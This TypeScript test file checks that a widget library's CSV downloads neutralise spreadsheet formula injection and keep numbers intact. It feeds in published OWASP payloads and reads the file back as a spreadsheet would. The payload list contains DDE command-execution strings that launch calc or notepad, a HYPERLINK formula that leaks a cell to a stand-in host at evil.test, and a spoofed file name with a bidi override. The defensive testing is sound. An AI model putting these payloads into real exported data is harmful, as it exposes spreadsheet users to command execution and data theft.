/**
 * CSV formula injection (OWASP): every widget's "Download CSV", fed formula payloads in its text
 * columns, its headers and an extra column, is read back as a spreadsheet reads it. No cell may
 * start a formula, and every number in the data must come back as the same number.
 */
import { expect, waitUntil } from '@open-wc/testing';
import { parseRows } from '../../src/core/data/dsv.js';
import { WIDGETS, type WidgetCase } from './widgets.js';
import { mount, root } from './mount.js';
import { captureConsole } from '../helpers/widgets.js';

/** Published payloads (OWASP CSV Injection cheat sheet and the review's), each a formula in Excel, WPS, LibreOffice or Sheets. */
export const FORMULAS = [
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.test/?leak="&A1,"点击")',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=cmd|\' /C notepad\'!\'A1\'',
  '-1-1',
  '+A1',
];

/**
 * What a spreadsheet does with a cell's text when it opens a CSV: a signed numeric literal is a
 * number; anything else starting with =, +, -, @, tab or CR is parsed as a formula. A leading
 * apostrophe makes the rest text.
 */
export function evaluates(cell: string): boolean {
  if (cell.startsWith("'")) return false;
  if (/^[-+]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][-+]?\d+)?%?$/.test(cell) && /\d/.test(cell)) return false;
  return /^[=+\-@\t\r]/.test(cell) && cell !== '-';
}

type Rows = Array<Record<string, unknown>>;

/** Valid rows with a payload at the start of every text column, one payload header, and a `note` column of payloads. */
function hostile(w: WidgetCase): Rows {
  return (w.valid() as Rows).map((r, i) => {
    const out: Record<string, unknown> = {};
    for (const [k, v] of Object.entries(r)) {
      const key = w.headersShown && k !== Object.keys(r)[0] && k === Object.keys(r).at(-1) ? '=1+1' : k;
      out[key] = w.textColumns.includes(k) ? `${FORMULAS[i % FORMULAS.length]!}${String(v)}` : v;
    }
    out['note'] = FORMULAS[(i + 3) % FORMULAS.length];
    return out;
  });
}

/** Clicks "Download CSV" and returns the text of the blob it saved (URL.createObjectURL stubbed). */
async function downloadCsv(el: HTMLElement): Promise<{ text: string; name: string }> {
  const find = (): HTMLButtonElement | undefined =>
    Array.from(root(el).querySelectorAll<HTMLButtonElement>('footer .tools button')).find((b) => /CSV/.test(b.textContent));
  await waitUntil(() => find(), `<${el.localName}> has no Download CSV button`, { timeout: 4000 });
  const button = find()!;
  const blobs: Blob[] = [];
  const names: string[] = [];
  const create = URL.createObjectURL.bind(URL);
  URL.createObjectURL = (b: Blob | MediaSource): string => {
    blobs.push(b as Blob);
    return create(b);
  };
  // The download link is not followed: the test reads the blob.
  HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
    names.push(this.download);
  };
  try {
    button.click();
    // The CSV writer loads on first use (core/lazy.ts): the file is saved once it is here.
    await waitUntil(() => blobs.length > 0, 'no file was saved', { timeout: 4000 });
  } finally {
    URL.createObjectURL = create;
    // The override is an own property of the anchor prototype; HTMLElement.prototype.click shows again.
    delete (HTMLAnchorElement.prototype as Partial<HTMLAnchorElement>).click;
  }
  expect(blobs.length, 'one file saved').to.equal(1);
  // ignoreBOM: keep the BOM in the text, to check it is written (Blob.text() strips it).
  return { text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(await blobs[0]!.arrayBuffer()), name: names[0]! };
}

describe('hardening: CSV downloads neutralise formulas', () => {
  for (const w of WIDGETS.filter((x) => x.frame && x.input === 'data')) {
    it(`<${w.tag}>: no cell of its CSV would run as a formula; numbers stay numbers`, async () => {
      const rows = hostile(w);
      const warn = captureConsole('warn');
      let csv: { text: string; name: string };
      try {
        const el = await mount(w, rows, { count: null, attrs: { heading: '=cmd|\u202Egpj.exe:/\\ 报表' } });
        csv = await downloadCsv(el);
      } finally {
        warn.restore();
      }
      expect(csv.text.startsWith('\uFEFF'), 'UTF-8 BOM').to.equal(true);
      expect(csv.text.endsWith('\r\n'), 'CRLF line ends').to.equal(true);
      const cells = parseRows(csv.text.slice(1));
      const flat = cells.flat();
      expect(cells.length, 'header and every row').to.equal(rows.length + 1);
      const bad = flat.filter(evaluates);
      expect(bad, 'cells a spreadsheet would evaluate').to.deep.equal([]);
      // A real spreadsheet reader opens the same file (SheetJS, as the builder uses it): no cell is
      // a formula, and every number of the data is read as a number.
      const XLSX = await import('@e965/xlsx');
      const book = XLSX.read(csv.text.slice(1), { type: 'string' });
      const sheet = book.Sheets[book.SheetNames[0] ?? ''] ?? {};
      const read = Object.entries(sheet).filter(([k]) => !k.startsWith('!')).map(([, c]) => c as { t: string; v: unknown; f?: string });
      expect(read.length, 'SheetJS read every cell').to.equal(flat.filter((c) => c !== '').length);
      expect(read.filter((c) => c.f !== undefined).map((c) => c.v), 'formula cells as SheetJS reads the file').to.deep.equal([]);
      for (const r of rows) {
        for (const v of Object.values(r)) if (typeof v === 'number') expect(read.some((c) => c.t === 'n' && c.v === v), `SheetJS reads ${v} as a number`).to.equal(true);
      }
      // Every payload arrived (neutralised), so the test cannot pass by dropping cells.
      const payloads = flat.filter((c) => c.startsWith("'"));
      expect(payloads.length).to.be.greaterThan(rows.length);
      for (const r of rows) {
        for (const v of Object.values(r)) if (typeof v === 'number') expect(flat, `the number ${v}`).to.include(String(v));
      }
      // The bidi override and the path characters are gone from the file name.
      expect(csv.name).to.equal('=cmd gpj.exe 报表.csv');
    });
  }
});
